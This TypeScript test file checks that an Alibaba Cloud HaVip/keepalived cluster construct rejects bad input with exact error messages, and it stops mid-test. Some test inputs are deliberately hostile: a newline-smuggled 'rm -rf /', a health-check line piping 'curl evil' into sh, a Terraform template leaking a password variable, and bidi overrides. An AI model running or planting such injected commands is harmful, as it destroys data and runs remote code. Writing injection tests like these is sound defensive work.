// A catalogue of bad input through HaVipCluster: each entry asserts the exact message line
// `<construct path>: <prop> = <value>: <rule> (<source>)`, so path, prop, value, rule and source are
// all pinned. App-wide rules surface at synth.
import { spawnSync } from 'node:child_process';
import { TerraformStack, TerraformVariable, Testing, Token } from 'cdktf';
import { Construct } from 'constructs';
import { AlicloudProvider, HaVipCluster, HavipAttachment, Vpc, Vswitch, type HaVipClusterProps } from '../lib';
import { HaVipValidationError } from '../lib/validation-error';
import { checkAgainstSchema, formatProblems } from './support/schema-check';
import { GUIDE_PROPS } from './support/guide-props';
import { inCi, keepalivedConfigTest, keepalivedConfigTestUnavailable } from './support/keepalived-config-test';
import { memberScripts, resourcesOf, type SynthDoc } from './support/synth';
import { validationErrorOf } from './support/errors';

const CONFIG_TEST_UNAVAILABLE = keepalivedConfigTestUnavailable();
/** Real keepalived judges the configs here; without it (and only outside CI) those assertions are skipped. */
const withKeepalived = CONFIG_TEST_UNAVAILABLE && !inCi() ? test.skip : test;

type Patch = (p: HaVipClusterProps) => unknown;
const node = (i: number, patch: Record<string, unknown>): Patch => (p) => ({
  ...p,
  nodes: p.nodes.map((n, j) => (j === i ? { ...n, ...patch } : n)),
});
const keepalived = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, keepalived: { ...p.keepalived, ...patch } });
const instance = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, instance: { ...p.instance, ...patch } });
const ingress = (...rules: unknown[]): Patch => (p) => ({ ...p, ingress: rules });
const set = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, ...patch });

const KA = 'keepalived.conf(5)';
const PRIORITY_SRC = `${KA}: priority (255 is reserved for the address owner)`;
const IPV4 = 'Alibaba Cloud HaVip guide: "HaVip supports only IPv4"';
const RESERVED = 'CreateVSwitchCidrReservation API: the first and the last three addresses of a vSwitch CIDR block are reserved';
const IN_VSW = 'Alibaba Cloud HaVip guide: an HaVip is a private IP of one vSwitch, associated only with members in that vSwitch';
const UNSAFE = 'no prop may inject shell or keepalived syntax (control characters end a line)';
const PROTO = 'alicloud provider 1.289.0: alicloud_security_group_rule.ip_protocol (case-sensitive)';
const PORTS = 'alicloud_security_group_rule.port_range: tcp/udp need a port range, other protocols -1/-1';
const CIDR = 'alicloud_security_group_rule.cidr_ip: an IPv4 CIDR block';
const AUTH = `${KA}: authentication { auth_pass } (only the first 8 characters are used)`;
const IFACE = 'Linux interface names: at most 15 characters (IFNAMSIZ 16), not "." or ".."';
const SCRIPT = `${KA}: vrrp_script script (keepalived executes the check; one line of at most 1000 characters)`;
const NAME = 'ECS RunInstances API: InstanceName; alicloud provider: instance_name 2..128 bytes';
const ADDRESS_SRC = 'Alibaba Cloud VPC: a private IP address belongs to one ENI or HaVip of its vSwitch (InvalidPrivateIpAddress.Duplicated)';
const PLAIN = 'HaVipClusterProps are plain data (object literals, arrays without holes, strings, numbers, booleans, tokens), read once';
const RESERVED_IFACE = 'Linux: include/net/ip.h sysctl_dev_name_is_allowed() refuses "all" and "default" (EINVAL); "lo" is the loopback device';

const ENI_IFACE = "HaVipClusterProps.networkInterfaces: the VRRP interface is the ENI in the HaVip's vSwitch";
const ENI_CIDR = "HaVipClusterProps.networkInterfaces: the boot configures the ENI's address with the vSwitch's mask";
const route = (destinationCidrBlock: string, routeTableId = 'vtb-1') => ({ routeTableId, destinationCidrBlock });
const gw = (...routes: unknown[]): Patch => (p) => ({ ...p, gateway: { routes, sourceCidrs: ['10.0.1.0/24'] } });

const withoutInterface = (k: HaVipClusterProps['keepalived']) => ({ ...k, interface: undefined });

const CATALOGUE: [string, Patch, string][] = [
  ['props not an object', () => 'web', 'props = "web": must be an object, got string (HaVipClusterProps)'],
  ['a typo in a prop name', set({ vSwitchId: 'vsw-1' }), 'vSwitchId = "vsw-1": is not a known prop (known: vpcId, vswitchId, vswitchCidrBlock, havip, nodes, instance, keepalived, ingress, eip, networkInterfaces, gateway, limits, delivery, deploymentSet) (HaVipClusterProps)'],
  ['vpcId missing', set({ vpcId: undefined }), 'vpcId = undefined: is required (HaVipClusterProps.vpcId)'],
  ['vswitchId null', set({ vswitchId: null }), 'vswitchId = null: is required (HaVipClusterProps.vswitchId)'],
  ['vpcId with a newline', set({ vpcId: 'vpc-1\nrm -rf /' }), `vpcId = "vpc-1\\nrm -rf /": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
  ['vSwitch block not canonical', set({ vswitchCidrBlock: '192.168.0.1/24' }), 'vswitchCidrBlock = "192.168.0.1/24": must start at its network address: did you mean 192.168.0.0/24? (CreateVSwitch API: CidrBlock mask length 16 to 29)'],
  ['vSwitch block /30', set({ vswitchCidrBlock: '192.168.0.0/30' }), 'vswitchCidrBlock = "192.168.0.0/30": must have a mask length from 16 to 29 (CreateVSwitch API: CidrBlock mask length 16 to 29)'],
  ['HaVip address IPv6', set({ havip: { ipAddress: 'fd00::24' } }), `havip.ipAddress = "fd00::24": must be an IPv4 address: HaVip supports only IPv4 (${IPV4})`],
  ['HaVip address outside the vSwitch', set({ havip: { ipAddress: '10.0.0.24' } }), `havip.ipAddress = "10.0.0.24": must lie inside the vSwitch CIDR block 192.168.0.0/24 (${IN_VSW})`],
  ['HaVip address reserved (first)', set({ havip: { ipAddress: '192.168.0.0' } }), `havip.ipAddress = "192.168.0.0": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
  ['HaVip address reserved (last but two)', set({ havip: { ipAddress: '192.168.0.253' } }), `havip.ipAddress = "192.168.0.253": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
  ['HaVip address is a node address', set({ havip: { ipAddress: '192.168.0.26' } }), 'nodes[1].privateIp = "192.168.0.26": must differ from havip.ipAddress (one address per member: the HaVip address and every node address are distinct)'],
  ['HaVip name with a Terraform template', set({ havip: { name: 'web-${var.env}' } }), 'havip.name = "web-${var.env}": must not contain "${" or "%{": Terraform would read a template sequence (Terraform JSON syntax: "${" and "%{" in a string start template sequences)'],
  ['HaVip description with a bidi override', set({ havip: { description: 'ok\u202eevil' } }), `havip.description = "ok\\u202eevil": must not contain control or invisible characters, found U+202E (${UNSAFE})`],
  ['one node', set({ nodes: [{ privateIp: '192.168.0.25' }] }), 'nodes = 1: must list at least 2 members, got 1 (VRRP needs a peer: fewer than 2 members is no high availability)'],
  ['eleven nodes', set({ nodes: Array.from({ length: 11 }, (_, i) => ({ privateIp: `192.168.0.${30 + i}` })) }), 'nodes = 11: must list at most 10 members, got 11 (Alibaba Cloud HaVip guide, "Quotas": "ECS instances or ENIs per HaVip")'],
  ['nodes not a list', set({ nodes: { privateIp: '192.168.0.25' } }), 'nodes = {"privateIp":"192.168.0.25"}: must be an array, got object (HaVipClusterProps.nodes)'],
  ['a node without address', node(0, { privateIp: undefined }), 'nodes[0].privateIp = undefined: is required (ClusterNode.privateIp)'],
  ['a node address with a leading zero', node(0, { privateIp: '192.168.0.025' }), `nodes[0].privateIp = "192.168.0.025": must be an IPv4 address like 192.168.0.24 (${IPV4})`],
  ['a node address outside the vSwitch', node(1, { privateIp: '192.168.1.26' }), `nodes[1].privateIp = "192.168.1.26": must lie inside the vSwitch CIDR block 192.168.0.0/24 (${IN_VSW})`],
  ['a node on the broadcast address', node(1, { privateIp: '192.168.0.255' }), `nodes[1].privateIp = "192.168.0.255": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
  ['two nodes on one address', node(1, { privateIp: '192.168.0.25' }), 'nodes[1].privateIp = "192.168.0.25": must differ from nodes[0].privateIp (one address per member: the HaVip address and every node address are distinct)'],
  ['priority 255', node(0, { priority: 255 }), `nodes[0].priority = 255: must be an integer from 1 to 254 (${PRIORITY_SRC})`],
  ['priority 0', node(1, { priority: 0 }), `nodes[1].priority = 0: must be an integer from 1 to 254 (${PRIORITY_SRC})`],
  ['priority as a string', node(1, { priority: '10' }), `nodes[1].priority = "10": must be an integer from 1 to 254, got string (${PRIORITY_SRC})`],
  ['equal priorities', node(1, { priority: 100 }), `nodes[1].priority = 100: must differ from nodes[0] (100): priorities must be distinct so one node wins the election (${PRIORITY_SRC})`],
  ['a node name with a space', node(0, { name: 'web 1' }), `nodes[0].name = "web 1": must start with a letter and contain only letters, digits, ":", "_", "." and "-" (${NAME})`],
  ['a name prefix with a quote', instance({ namePrefix: "web'" }), `instance.namePrefix = "web'": must start with a letter and contain only letters, digits, ":", "_", "." and "-" (${NAME})`],
  ['instance type missing', instance({ instanceType: undefined }), 'instance.instanceType = undefined: is required (alicloud provider 1.289.0: alicloud_instance.instance_type)'],
  ['disk category in capitals', instance({ systemDiskCategory: 'CLOUD_ESSD' }), 'instance.systemDiskCategory = "CLOUD_ESSD": must be one of all, cloud, ephemeral_ssd, cloud_essd, cloud_efficiency, cloud_ssd, local_disk, cloud_auto, cloud_essd_entry (alicloud provider 1.289.0: alicloud_instance.system_disk_category)'],
  ['a tag value with NUL', instance({ tags: { team: 'a\u0000b' } }), `instance.tags["team"] = "a\\u0000b": must not contain control or invisible characters, found NUL (U+0000) (${UNSAFE})`],
  ['vrid missing', keepalived({ virtualRouterId: undefined }), `keepalived.virtualRouterId = undefined: is required (${KA}: virtual_router_id)`],
  ['vrid 256', keepalived({ virtualRouterId: 256 }), `keepalived.virtualRouterId = 256: must be an integer from 1 to 255 (${KA}: virtual_router_id)`],
  ['advertInt 0.5 (VRRPv3 only)', keepalived({ advertInt: 0.5 }), `keepalived.advertInt = 0.5: must be an integer from 1 to 255 (${KA}: advert_int (VRRPv2: whole seconds 1..255))`],
  ['preemptDelay without preempt', keepalived({ preemptDelay: 30 }), `keepalived.preemptDelay = 30: only applies with preempt: true (a non-preemptive node never takes the VIP back) (${KA}: preempt_delay (0..1000 s))`],
  ['interface of 16 characters', keepalived({ interface: 'eth0123456789012' }), `keepalived.interface = "eth0123456789012": must be a network interface name: 1 to 15 letters, digits, "_", "." or "-", not "." or ".." (${IFACE})`],
  ['interface injecting a block', keepalived({ interface: 'eth0 }' }), `keepalived.interface = "eth0 }": must be a network interface name: 1 to 15 letters, digits, "_", "." or "-", not "." or ".." (${IFACE})`],
  ['authPass of 9 characters', keepalived({ authPass: 'k33p4liv3' }), `keepalived.authPass = "k33p4liv3": must be 1 to 8 characters: keepalived silently uses only the first 8 (${AUTH})`],
  ['authPass with a brace', keepalived({ authPass: 'a}b' }), `keepalived.authPass = "a}b": must be printable ASCII without whitespace, quotes, braces, "#", "!", "\\" or "$" (${AUTH})`],
  ['authPass with a newline', keepalived({ authPass: 'a\nb' }), `keepalived.authPass = "a\\nb": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
  ['garp_master_delay 5000', keepalived({ garpMasterDelay: 5000 }), `keepalived.garpMasterDelay = 5000: must be an integer from 0 to 4294 (${KA}: garp_master_delay; keepalived 2.2.7 --config-test: range [0, 4294])`],
  ['tracking the VRRP interface', keepalived({ trackInterfaces: ['eth0'] }), `keepalived.trackInterfaces[0] = "eth0": must not be the VRRP interface itself (eth0): keepalived ignores it (${KA}: track_interface (keepalived ignores its own VRRP interface))`],
  ['a relative health check', keepalived({ healthCheck: { script: 'curl -f http://127.0.0.1/' } }), `keepalived.healthCheck.script = "curl -f http://127.0.0.1/": must start with an absolute path to the program, e.g. /usr/bin/curl: keepalived executes the check (${SCRIPT})`],
  ['a two-line health check', keepalived({ healthCheck: { script: '/bin/true\ncurl evil | sh' } }), `keepalived.healthCheck.script = "/bin/true\\ncurl evil | sh": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
  ['a health check ending the heredoc', keepalived({ healthCheck: { script: '/bin/echo HAVIP_HEALTH_CHECK_END' } }), 'keepalived.healthCheck.script = "/bin/echo HAVIP_HEALTH_CHECK_END": must not contain HAVIP_..._END or @@HAVIP_, markers the boot script reserves (the boot script writes the command with a quoted heredoc; its delimiters and the HaVip address placeholder are reserved)'],
  ['health check interval 0', keepalived({ healthCheck: { script: '/bin/true', interval: 0 } }), `keepalived.healthCheck.interval = 0: must be an integer from 1 to 4294 (${KA}: vrrp_script interval; keepalived 2.2.7 --config-test: range [1, 4294])`],
  ['health check weight 300', keepalived({ healthCheck: { script: '/bin/true', weight: 300 } }), `keepalived.healthCheck.weight = 300: must be an integer from -253 to 253 (${KA}: vrrp_script weight -253..253)`],
  ['protocol TCP', ingress({ protocol: 'TCP', port: 8000, sourceCidr: '192.168.0.0/24' }), `ingress[0].protocol = "TCP": must be one of tcp, udp, icmp, icmpv6, gre, all (write "tcp") (${PROTO})`],
  ['protocol vrrp', ingress({ protocol: 'vrrp', sourceCidr: '192.168.0.0/24' }), `ingress[0].protocol = "vrrp": must be one of tcp, udp, icmp, icmpv6, gre, all (${PROTO})`],
  ['tcp without a port', ingress({ protocol: 'tcp', sourceCidr: '192.168.0.0/24' }), `ingress[0].port = undefined: is required for tcp and udp (or give fromPort and toPort) (${PORTS})`],
  ['port 70000', ingress({ protocol: 'udp', port: 70000, sourceCidr: '192.168.0.0/24' }), 'ingress[0].port = 70000: must be an integer from 1 to 65535 (alicloud_security_group_rule.port_range: tcp/udp ports 1..65535)'],
  ['a reversed range', ingress({ protocol: 'tcp', fromPort: 9000, toPort: 8000, sourceCidr: '192.168.0.0/24' }), `ingress[0].toPort = 8000: must not be below fromPort (9000) (${PORTS})`],
  ['icmp with a port', ingress({ protocol: 'icmp', port: 8, sourceCidr: '192.168.0.0/24' }), `ingress[0].port = 8: must not be set for protocol icmp: only tcp and udp have ports (${PORTS})`],
  ['source with host bits', ingress({ protocol: 'tcp', port: 80, sourceCidr: '192.168.0.1/24' }), `ingress[0].sourceCidr = "192.168.0.1/24": must start at its network address: did you mean 192.168.0.0/24? (${CIDR})`],
  ['source IPv6', ingress({ protocol: 'tcp', port: 80, sourceCidr: '::/0' }), `ingress[0].sourceCidr = "::/0": must be an IPv4 CIDR block: IPv6 is not supported here (${CIDR})`],
  ['EIP both new and existing', set({ eip: { allocationId: 'eip-1', isp: 'BGP' } }), 'eip.isp = "BGP": must not be set with allocationId: it configures a new EIP (EipOptions: allocationId associates an existing EIP)'],
  ['EIP bandwidth 0', set({ eip: { bandwidth: 0 } }), 'eip.bandwidth = 0: must be an integer from 1 to 10000 (AllocateEipAddress API: Bandwidth in Mbit/s (the API lowers the maximum by billing method))'],
  ['ENI members with an interface name', (p) => ({ ...p, networkInterfaces: {}, keepalived: { ...p.keepalived, interface: 'eth1' } }), `keepalived.interface = "eth1": must not be set with networkInterfaces: keepalived runs on the ENI, found by its MAC address at boot (${ENI_IFACE})`],
  ['ENI members without the vSwitch block', (p) => ({ ...p, networkInterfaces: {}, vswitchCidrBlock: undefined, keepalived: withoutInterface(p.keepalived) }), `vswitchCidrBlock = undefined: is required with networkInterfaces: the ENI's address is configured with its mask when the image has not (${ENI_CIDR})`],
  ['ENI options with a typo', (p) => ({ ...p, networkInterfaces: { instanceVSwitchId: 'vsw-2' }, keepalived: withoutInterface(p.keepalived) }), 'networkInterfaces.instanceVSwitchId = "vsw-2": is not a known prop (known: instanceVswitchId) (NetworkInterfaceOptions)'],
  ['a route into 100.64.0.0/10', gw(route('100.100.0.0/16')), `gateway.routes[0].destinationCidrBlock = "100.100.0.0/16": must not be or lie inside 100.64.0.0/10: Alibaba Cloud reserves it (shared address space, RFC 6598: cloud services, the metadata service) (VPC CreateRouteEntry API, usage notes: the destination cannot be 100.64.0.0/10 or a subset of it)`],
  ['a multicast route', gw(route('224.0.0.0/4')), 'gateway.routes[0].destinationCidrBlock = "224.0.0.0/4": must not be or lie inside 224.0.0.0/4: multicast (RFC 5771); an HaVip carries only unicast (Alibaba Cloud HaVip guide, "Quotas": HaVips support only unicast communication; RFC 5771)'],
  ['a route inside the HaVip vSwitch', gw(route('192.168.0.128/25')), `gateway.routes[0].destinationCidrBlock = "192.168.0.128/25": must not be or lie inside the HaVip's vSwitch block 192.168.0.0/24 (VPC CreateRouteEntry API, usage notes: the destination cannot be the same as or a subset of the CIDR block of a vSwitch in the VPC)`],
  ['a route with host bits', gw(route('10.99.0.1/24')), 'gateway.routes[0].destinationCidrBlock = "10.99.0.1/24": must start at its network address: did you mean 10.99.0.0/24? (VPC CreateRouteEntry API, usage notes: DestinationCidrBlock, an IPv4 CIDR block)'],
  ['one destination twice in a route table', gw(route('10.99.0.0/24'), route('10.99.0.0/24')), 'gateway.routes[1].destinationCidrBlock = "10.99.0.0/24": must differ from gateway.routes[0] in route table vtb-1 (VPC CreateRouteEntry API, usage notes: the destination CIDR blocks of route entries in the same route table must be unique)'],
  ['six routes in one route table', gw(...[0, 1, 2, 3, 4, 5].map((i) => route(`10.${90 + i}.0.0/16`))), 'gateway.routes[5].routeTableId = "vtb-1": must have at most 5 route entries whose next hop is an HaVip, this is entry 6 (Alibaba Cloud HaVip guide, "Quotas": vpc_quota_havip_custom_route_entry, "Entries whose destination is an HaVip in a route table" (adjustable))'],
  ['a route table id with a space', gw(route('10.99.0.0/24', 'vtb 1')), 'gateway.routes[0].routeTableId = "vtb 1": must be a resource id: no whitespace (alicloud_route_entry.route_table_id)'],
  ['a gateway without sources', set({ gateway: { routes: [route('10.99.0.0/24')], sourceCidrs: [] } }), 'gateway.sourceCidrs = []: must list at least one CIDR block: without one the security group drops the forwarded traffic (HaVipClusterProps.gateway.sourceCidrs: the clients whose traffic the members forward (security group ingress))'],
  ['a limit that is not a number', set({ limits: { haVipsPerVpc: 'many' } }), 'limits.haVipsPerVpc = "many": must be a positive integer (a raised quota) (Alibaba Cloud HaVip guide, "Quotas": "HaVips per VPC")'],

  // Non-plain objects and holes (issue 13, class 3): never read as an empty object, never shifted.
  ['eip as a Map', set({ eip: new Map([['allocationId', 'eip-1']]) }), `eip = [Map]: must be plain data (an object literal or an array), got a Map (${PLAIN})`],
  ['havip as a Date', set({ havip: new Date(0) }), `havip = [Date]: must be plain data (an object literal or an array), got a Date (${PLAIN})`],
  ['tags as a Map', instance({ tags: new Map([['team', 'web']]) }), `instance.tags = [Map]: must be plain data (an object literal or an array), got a Map (${PLAIN})`],
  ['props as a class instance', (p) => Object.assign(new (class Props {})(), p), `props = [Props instance]: must be plain data (an object literal or an array), got a Props instance (${PLAIN})`],
  ['keepalived as a Proxy', (p) => ({ ...p, keepalived: new Proxy({ ...p.keepalived }, {}) }), `keepalived = [Proxy]: must be plain data, got a Proxy (${PLAIN})`],
  ['an object with a prototype', set({ havip: Object.create({ ipAddress: '192.168.0.24' }) }), `havip = [object with a prototype]: must be plain data (an object literal or an array), got an object with a prototype (${PLAIN})`],
  // eslint-disable-next-line no-sparse-arrays
  ['a hole in nodes', (p) => ({ ...p, nodes: [, ...p.nodes] }), `nodes[0] = <hole>: must not be a hole in the array: every entry must be given (${PLAIN})`],
  ['a getter that throws', (p) => ({ ...p, get vpcId(): string { throw new Error('no'); } }), `vpcId = <unreadable>: must be readable: its getter throws (${PLAIN})`],
  ['toString as a limit', set({ limits: { toString: 5 } }), 'limits.toString = 5: is not a known limit (membersPerHaVip, haVipsPerInstance, eipsPerHaVip, haVipsPerVpc, haVipsPerAccount, routeEntriesPerRouteTable) (HaVipLimits)'],
  ['an own __proto__ key (JSON.parse)', (p) => ({ ...JSON.parse('{"__proto__": {"allocationId": "eip-1"}}'), ...p }), '__proto__ = {"allocationId":"eip-1"}: is not a known prop (known: vpcId, vswitchId, vswitchCidrBlock, havip, nodes, instance, keepalived, ingress, eip, networkInterfaces, gateway, limits, delivery, deploymentSet) (HaVipClusterProps)'],
  ['constructor as an HaVip option', set({ havip: { constructor: 'x' } }), 'havip.constructor = "x": is not a known prop (known: ipAddress, name, description) (HaVipOptions)'],

  // Limits (class 5).
  ['300 members under a raised limit', set({ havip: undefined, vswitchCidrBlock: '192.168.0.0/16', limits: { membersPerHaVip: 400 }, nodes: Array.from({ length: 300 }, (_, i) => ({ privateIp: `192.168.${1 + Math.floor(i / 250)}.${(i % 250) + 1}` })) }), `nodes = 300: must list at most 254 members: each needs a distinct priority from 1 to 254 (${PRIORITY_SRC})`],
  ['the loopback interface', keepalived({ interface: 'lo' }), `keepalived.interface = "lo": must not be "lo", "all", "default": the loopback device cannot carry the HaVip or fail over (${RESERVED_IFACE})`],
  ['tracking "default"', keepalived({ trackInterfaces: ['default'] }), `keepalived.trackInterfaces[0] = "default": must not be "lo", "all", "default": Linux refuses to create an interface of that name (${RESERVED_IFACE})`],
  ['an instance type without ecs.', instance({ instanceType: 'g7.large' }), `instance.instanceType = "g7.large": must start with "ecs.", e.g. ecs.g7.large (alicloud provider 1.289.0: alicloud_instance.instance_type, "prefix must be 'ecs.'")`],
  ['an ESSD system disk of 4000 GiB', instance({ systemDiskSize: 4000 }), 'instance.systemDiskSize = 4000: must be from 20 to 2048 GiB for a cloud_essd system disk (RunInstances API: SystemDisk.Size (GiB) by SystemDisk.Category)'],
  ['a default-category system disk of 10 GiB', instance({ systemDiskCategory: undefined, systemDiskSize: 10 }), 'instance.systemDiskSize = 10: must be from 20 to 2048 GiB for a cloud_efficiency system disk (RunInstances API: SystemDisk.Size (GiB) by SystemDisk.Category)'],
  ['21 tags', instance({ tags: Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`k${i}`, 'v'])) }), 'instance.tags = 21: must have at most 20 tags, got 21 (RunInstances API: Tag.N (at most 20 tags per instance))'],
  ['five more security groups', instance({ securityGroupIds: ['sg-1', 'sg-2', 'sg-3', 'sg-4', 'sg-5'] }), 'instance.securityGroupIds = 5: must list at most 4 groups: with the cluster\'s own that makes 6, at most 5 per instance (ECS limits: "Security groups to which an ECS instance can belong": 5 (the cluster adds its own))'],
  ['a name prefix that the -havip suffix pushes past 128', instance({ namePrefix: 'a'.repeat(125) }), `security group name (derived from instance.namePrefix) = "${'a'.repeat(125)}-havip": must be 2 to 128 characters long, got 131 (CreateSecurityGroup API: SecurityGroupName, 2 to 128 characters, starting with a letter; letters, digits, ":", "_", "." and "-")`],
  ['a token for delivery', set({ delivery: Token.asString(Token.asAny('${var.delivery}')) }), 'delivery = "${var.delivery}": must be a literal, not a token: it decides at synth time what the cluster creates (HaVipClusterProps.delivery)'],
  ['a token for deploymentSet.enabled', set({ deploymentSet: { enabled: Token.asAny('${var.spread}') } }), 'deploymentSet.enabled = "${var.spread}": must be a literal, not a token: it decides at synth time whether a deployment set is created (DeploymentSetOptions.enabled)'],
  ['a token where a boolean literal is required', keepalived({ preempt: Token.asAny('${var.preempt}') }), `keepalived.preempt = "\${var.preempt}": must be a literal, not a token: it is written into keepalived.conf at synth time (${KA}: nopreempt)`],

  // Invisible characters by Unicode category (class 6).
  ['an HaVip name with U+206A (Cf)', set({ havip: { name: 'web\u206a' } }), `havip.name = "web\\u206a": must not contain control or invisible characters, found U+206A (${UNSAFE})`],
  ['a tag value with a TAG character (Cf, U+E0041)', instance({ tags: { team: 'web\u{E0041}' } }), `instance.tags["team"] = "web\\u{e0041}": must not contain control or invisible characters, found U+E0041 (${UNSAFE})`],
  ['a node name with a lone surrogate (Cs)', node(0, { name: 'web\ud800' }), `nodes[0].name = "web\\ud800": must not contain control or invisible characters, found unpaired surrogate U+D800 (${UNSAFE})`],
  ['an EIP name with a private-use character (Co)', set({ eip: { name: 'eip\ue000' } }), `eip.name = "eip\\ue000": must not contain control or invisible characters, found U+E000 (${UNSAFE})`],
  ['a description with an unassigned code point (Cn)', set({ havip: { description: 'web\u0378' } }), `havip.description = "web\\u0378": must not contain control or invisible characters, found U+0378 (${UNSAFE})`],
  ['a key pair with a paragraph separator (Zp)', instance({ keyName: 'key\u2029' }), `instance.keyName = "key\\u2029": must not contain control or invisible characters, found U+2029 (${UNSAFE})`],

  // Messages cannot be forged (class 9).
  ['an unknown key with a newline', set({ 'x\nstack/web: vpcId = "vpc-1": forged (x)': 1 }), 'x\\u000astack/web: vpcId = "vpc-1": forged (x) = 1: is not a known prop (known: vpcId, vswitchId, vswitchCidrBlock, havip, nodes, instance, keepalived, ingress, eip, networkInterfaces, gateway, limits, delivery, deploymentSet) (HaVipClusterProps)'],
  ['an unknown key with a bidi override', set({ 'x\u202ey': 1 }), 'x\\u202ey = 1: is not a known prop (known: vpcId, vswitchId, vswitchCidrBlock, havip, nodes, instance, keepalived, ingress, eip, networkInterfaces, gateway, limits, delivery, deploymentSet) (HaVipClusterProps)'],
  // eslint-disable-next-line no-sparse-arrays
  ['a hole before a bad priority names the right index', (p) => ({ ...p, nodes: [p.nodes[0], , { ...p.nodes[1], priority: 'x' }] }), `nodes[2].priority = "x": must be an integer from 1 to 254, got string (${PRIORITY_SRC})`],
];

function build(props: unknown, region = 'cn-hangzhou'): TerraformStack {
  const stack = new TerraformStack(Testing.app(), 'stack');
  new AlicloudProvider(stack, 'alicloud', { region });
  new HaVipCluster(stack, 'web', props as HaVipClusterProps);
  return stack;
}


describe('validation catalogue', () => {
  test('has at least 40 entries, each with a distinct message', () => {
    expect(CATALOGUE.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CATALOGUE.map(([, , line]) => line)).size).toBe(CATALOGUE.length);
  });

  test.each(CATALOGUE)('%s', (_name, patch, line) => {
    const e = validationErrorOf(() => build(patch(GUIDE_PROPS)));
    expect(e.constructPath).toBe('stack/web');
    expect(e.message.split('\n')).toContain(`stack/web: ${line}`);
  });

  test('the guide example synthesizes with no error, no warning, and fits the provider schema', () => {
    const stack = build(GUIDE_PROPS);
    const json = Testing.synth(stack, true);
    expect(formatProblems(checkAgainstSchema(json))).toBe('');
    const annotations = stack.node.findAll().flatMap((c) => c.node.metadata.filter((m) => m.type === '@cdktf/warn' || m.type === '@cdktf/error'));
    expect(annotations).toEqual([]);
  });

  test('a non-zero weight without preempt warns through Annotations, naming path, prop and value', () => {
    const stack = build(keepalived({ healthCheck: { script: '/bin/true', weight: -50 } })(GUIDE_PROPS));
    Testing.synth(stack);
    const warnings = stack.node.findAll().flatMap((c) => c.node.metadata.filter((m) => m.type === '@cdktf/warn').map((m) => String(m.data)));
    expect(warnings).toEqual([expect.stringContaining('keepalived.healthCheck.weight')]);
    expect(warnings[0]).toContain('-50');
  });
});

// Construct ids and the strings derived from them (issue 13, classes 2 and 9): checked like props.
const TEMPLATE = 'Terraform JSON syntax: "${" and "%{" in a string start template sequences';
const ID_SOURCE = 'construct ids: the construct path goes into the security group description sent to Terraform';
const CONSTRUCT_CASES: [string, (stack: TerraformStack) => void, string][] = [
  ['a cluster id with a Terraform template', (stack) => new HaVipCluster(stack, 'web ${var.db_password}', GUIDE_PROPS), `stack/web \${var.db_password}: id = "web \${var.db_password}": must not contain "\${" or "%{": Terraform would read a template sequence (${TEMPLATE})`],
  ['a parent id with a template directive', (stack) => new HaVipCluster(new Construct(stack, 'p%{ if true }x%{ endif }'), 'web', GUIDE_PROPS), `stack/p%{ if true }x%{ endif }/web: scope id = "p%{ if true }x%{ endif }": must not contain "\${" or "%{": Terraform would read a template sequence (${TEMPLATE})`],
  ['a cluster id with a bidi override', (stack) => new HaVipCluster(stack, 'web\u202edb', GUIDE_PROPS), `stack/web\\u202edb: id = "web\\u202edb": must not contain control or invisible characters, found U+202E (${UNSAFE})`],
  ['a cluster id that is a token', (stack) => new HaVipCluster(stack, new TerraformVariable(stack, 'name', { type: 'string' }).stringValue, GUIDE_PROPS), `stack/\${var.name}: id = "\${var.name}": must be a literal, not a token: the construct path is written into a description at synth time (${ID_SOURCE})`],
  ['a path too long for the security group description', (stack) => new HaVipCluster(new Construct(stack, 'a'.repeat(230)), 'web', GUIDE_PROPS), `stack/${'a'.repeat(230)}/web: security group description (derived from the construct path) = ${`"Members of the HaVip cluster stack/${'a'.repeat(230)}/web"`.slice(0, 200)}...: must be 2 to 256 characters long, got 269 (CreateSecurityGroup API: Description, 2 to 256 characters, not starting with http:// or https://)`],
  ['limits given as a token', (stack) => new HaVipCluster(stack, 'web', { ...GUIDE_PROPS, limits: new TerraformVariable(stack, 'limits', {}).value }), 'stack/web: limits = "${var.limits}": must be a literal object, not a token: quotas are counted at synth time (HaVipClusterProps.limits)'],
  ['a limit given as a token', (stack) => new HaVipCluster(stack, 'web', { ...GUIDE_PROPS, limits: { haVipsPerVpc: new TerraformVariable(stack, 'n', { type: 'number' }).numberValue } }), 'stack/web: limits.haVipsPerVpc = "${var.n}": must be a literal, not a token: quotas are counted at synth time (Alibaba Cloud HaVip guide, "Quotas": "HaVips per VPC")'],
];

describe('construct ids, derived strings and tokens', () => {
  test.each(CONSTRUCT_CASES)('%s', (_name, make, line) => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    const e = validationErrorOf(() => make(stack));
    expect(e.message.split('\n')).toContain(line);
    expect(e.message).not.toMatch(/TfToken|TOKEN\.|node_modules|\.ts:\d|\.js:\d/);
    expect(stack.node.tryFindChild('web')).toBeUndefined();
  });

  test('a configure command over its limit is an error, and the cluster leaves nothing behind', () => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    const trackInterfaces = Array.from({ length: 2500 }, (_, i) => `t${i}`);
    const e = validationErrorOf(() => new HaVipCluster(stack, 'web', keepalived({ trackInterfaces })(GUIDE_PROPS) as HaVipClusterProps));
    expect(e.findings.length).toBeGreaterThan(0);
    expect(stack.node.tryFindChild('web')).toBeUndefined();
  });

  test('a user_data over 32 KB is an error, and the cluster leaves nothing behind', () => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    const trackInterfaces = Array.from({ length: 2500 }, (_, i) => `t${i}`);
    const props = { ...(keepalived({ trackInterfaces })(GUIDE_PROPS) as HaVipClusterProps), delivery: 'user-data' as const };
    const e = validationErrorOf(() => new HaVipCluster(stack, 'web', props));
    expect(e.message).toMatch(
